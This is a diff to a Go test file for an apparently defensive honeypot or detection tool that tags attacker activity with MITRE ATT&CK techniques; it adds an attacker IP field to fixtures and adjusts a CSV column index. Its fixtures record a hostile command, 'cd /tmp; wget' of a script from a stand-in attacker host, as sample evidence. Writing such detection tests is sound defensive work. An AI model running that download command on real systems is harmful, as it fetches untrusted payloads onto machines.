@@ -20,7 +20,7 @@ import (
 func download() event.Tag {
 	return event.Tag{
 		UUID:       event.TagUUID("command", "s1#cmd0", "R0018", 1, "T1105", ""),
-		SourceKind: "command", SourceID: "s1#cmd0",
+		AttackerIP: "203.0.113.9", SourceKind: "command", SourceID: "s1#cmd0",
 		AttackerUUID: "3a90f681-a007-5d06-8036-a9c1661decb1", SessionID: event.Some("s1"),
 		Tactic: "TA0011", Technique: "T1105", Confidence: 0.85, RuleID: "R0018", RuleVersion: 1,
 		Evidence:      []byte(`{"command_text":"cd /tmp; wget http://203.0.113.9/x.sh","matched":"wget http://203.0.113.9/x.sh"}`),
@@ -41,7 +41,7 @@ func guess() event.Tag {
 }
 
 const (
-	downloadJSON = `{"uuid":"%s","source_kind":"command","source_id":"s1#cmd0","attacker_uuid":"3a90f681-a007-5d06-8036-a9c1661decb1",` +
+	downloadJSON = `{"uuid":"%s","attacker_ip":"203.0.113.9","source_kind":"command","source_id":"s1#cmd0","attacker_uuid":"3a90f681-a007-5d06-8036-a9c1661decb1",` +
 		`"identity_uuid":null,"session_id":"s1","decky_id":null,"tactic":"TA0011","technique_id":"T1105","sub_technique_id":null,` +
 		`"confidence":0.85,"rule_id":"R0018","rule_version":1,` +
 		`"evidence":{"command_text":"cd /tmp; wget http://203.0.113.9/x.sh","matched":"wget http://203.0.113.9/x.sh"},` +
@@ -78,10 +78,10 @@ func TestWriters(t *testing.T) {
 	acc := &Account{Files: 1, Lines: 2, Direct: 2, Events: 2, Tags: 2, Errors: []string{"b.gz: truncated"}}
 	foot := `,"summary":` + string(acc.JSON()) + `,"errors":[{"message":"b.gz: truncated"}]}` + "\n"
 	header := strings.Join(tagColumns[:], ",") + "\n"
-	rows := d.UUID.String() + `,command,s1#cmd0,3a90f681-a007-5d06-8036-a9c1661decb1,,s1,,TA0011,T1105,,0.85,R0018,1,` +
+	rows := d.UUID.String() + `,203.0.113.9,command,s1#cmd0,3a90f681-a007-5d06-8036-a9c1661decb1,,s1,,TA0011,T1105,,0.85,R0018,1,` +
 		`"{""command_text"":""cd /tmp; wget http://203.0.113.9/x.sh"",""matched"":""wget http://203.0.113.9/x.sh""}",` +
 		"enterprise-v19.1,https://attack.mitre.org/techniques/T1105,2026-03-18T10:26:00Z\n" +
-		g.UUID.String() + `,auth_attempt,auth:h:s2,,id-7,,,TA0006,T1110,T1110.001,1,R0002,3,` +
+		g.UUID.String() + `,,auth_attempt,auth:h:s2,,id-7,,,TA0006,T1110,T1110.001,1,R0002,3,` +
 		`"{""password_count"":12,""username"":""root""}",enterprise-v19.1,https://attack.mitre.org/techniques/T1110/001,` + "\n"
 	tests := []struct {
 		format string
@@ -217,7 +217,7 @@ func TestCSVHasEveryField(t *testing.T) {
 	if err != nil || len(rows) != 2 {
 		t.Fatalf("CSV reads back as %d rows, %v, want 2", len(rows), err)
 	}
-	if got := rows[1][13]; got != string(tag.Evidence) {
+	if got := rows[1][14]; got != string(tag.Evidence) {
 		t.Errorf("evidence in CSV = %s, want %s", got, tag.Evidence)
 	}
 }
